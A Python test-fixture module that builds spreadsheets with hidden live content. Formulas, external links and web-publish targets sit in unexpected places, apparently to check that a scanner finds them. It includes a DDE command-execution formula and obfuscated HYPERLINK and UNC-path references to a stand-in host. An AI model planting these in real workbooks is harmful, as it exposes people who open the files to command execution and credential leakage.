"""Workbooks with something live where a formula or an address is not looked for."""

from __future__ import annotations

from tests.support.kept_workbooks import WRITTEN
from tests.support.own_workbooks import (
    BARE,
    FIGURES,
    OUTSIDE,
    Make,
    altered,
    related,
    replacing,
    tail,
    with_part,
    written,
)

_EVIL = "https://evil.example/x"
_SMALL = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def _formula(said: str) -> Make:
    cell = f'<c r="H2">{said}<v>7</v></c></row><row r="3"'
    return altered(BARE, replacing(FIGURES, '</row><row r="3"', cell))


#: With a word of what the list says of it.
HIDDEN_WORDS: dict[str, tuple[Make, str]] = {
    "letters by number": (_formula(f'<f>HYPERL&#73;NK("{_EVIL}")</f>'), "1 formula"),
    "sign by number": (_formula("<f>cmd&#124;'/C calc'!A0</f>"), "1 formula"),
    "instruction within": (_formula(f'<f>HYPERLINK<?x y?>("{_EVIL}")</f>'), "1 formula"),
    "sign in an attribute": (
        _formula(f'<f xmlns:q="urn:q" q:a=">">HYPERLINK("{_EVIL}")</f>'), "1 formula",
    ),
    "prefix of another alphabet": (
        _formula(f'<é:f xmlns:é="{_SMALL[7:-1]}">HYPERLINK("{_EVIL}")</é:f>'), "1 formula",
    ),
    "shared in single quotes": (
        _formula("<f t='shared' si='0' ref='H2:I2'>[1]S!A1</f>"), "1 formula",
    ),
    "location of a link": (
        altered(
            BARE, tail(f'<hyperlinks><hyperlink ref="A1" location="{_EVIL}"/></hyperlinks>')
        ),
        "1 link to a page",
    ),
    "end of a scale": (
        altered(
            BARE,
            tail(
                '<conditionalFormatting sqref="A1:A9"><cfRule type="colorScale" priority="1">'
                '<colorScale><cfvo type="formula" val="[1]S!$A$1"/><cfvo type="max"/><color'
                ' rgb="FFFF0000"/><color rgb="FF00FF00"/></colorScale></cfRule>'
                "</conditionalFormatting>"
            ),
        ),
        "1 rule",
    ),
    "name over a live name": (
        written(lambda b, _: (b.define_name("A_", "='[1]S'!$A$1"), b.define_name("B_", "=A_*2"))),
        "2 names that refer elsewhere",
    ),
    "column of a table": (
        altered(
            WRITTEN["table"],
            replacing(
                "xl/tables/table1.xml", 'name="C"/>',
                f'name="C"><calculatedColumnFormula>HYPERLINK("{_EVIL}")'
                "</calculatedColumnFormula></tableColumn>",
            ),
        ),
        "1 rule",
    ),
    "publishing": (
        altered(
            BARE,
            replacing(
                FIGURES, "</worksheet>",
                '<webPublishItems count="1"><webPublishItem id="1" divId="a" sourceType="sheet"'
                r' destinationFile="\\evil.example\x.htm"/></webPublishItems></worksheet>',
            ),
        ),
        "1 link to a page",
    ),
    "consolidation": (
        altered(
            BARE,
            tail(
                '<dataConsolidate link="1"><dataRefs count="1"><dataRef ref="A1" sheet="S"'
                ' r:id="rId77"/></dataRefs></dataConsolidate>'
            ),
            related(FIGURES, "externalLinkPath", r"file:///\\evil.example\b", "rId77", OUTSIDE),
        ),
        "1 link to another workbook",
    ),
    "sum beneath a column": (
        altered(
            WRITTEN["table"],
            replacing(
                "xl/tables/table1.xml", 'name="C"/>',
                'name="C" totalsRowFunction="custom"><totalsRowFormula>[1]S!A1</totalsRowFormula>'
                "</tableColumn>",
            ),
        ),
        "1 rule",
    ),
    "series that a chart leaves out": (
        altered(
            WRITTEN["chart"],
            replacing(
                "xl/charts/chart1.xml", "</c:barChart>",
                '<c:extLst><c:ext uri="{02D57815-91ED-43cb-92C2-25804820EDAC}" xmlns:c15="http://'
                'schemas.microsoft.com/office/drawing/2012/chart"><c15:filteredBarSeries><c15:ser>'
                "<c:val><c:numRef><c:extLst><c:ext><c15:formulaRef><c15:sqref>[1]S!$A$1:$A$3"
                "</c15:sqref></c15:formulaRef></c:ext></c:extLst></c:numRef></c:val></c15:ser>"
                "</c15:filteredBarSeries></c:ext></c:extLst></c:barChart>",
            ),
        ),
        "1 link to another workbook",
    ),
    "link without a result": (
        altered(
            BARE,
            replacing(
                FIGURES, '</row><row r="3"',
                f'<c r="H2" t="str"><f>HYPERLINK("{_EVIL}","Open")</f></c></row><row r="3"',
            ),
        ),
        "1 formula",
    ),
    "list of a control": (
        altered(
            BARE,
            with_part(
                "xl/ctrlProps/ctrlProp1.xml",
                '<formControlPr objectType="Drop" fmlaRange="[1]S!$A$1:$A$9"/>',
                "application/vnd.ms-excel.controlproperties+xml", FIGURES, "ctrlProp",
            ),
        ),
        "1 formula",
    ),
}  # fmt: skip
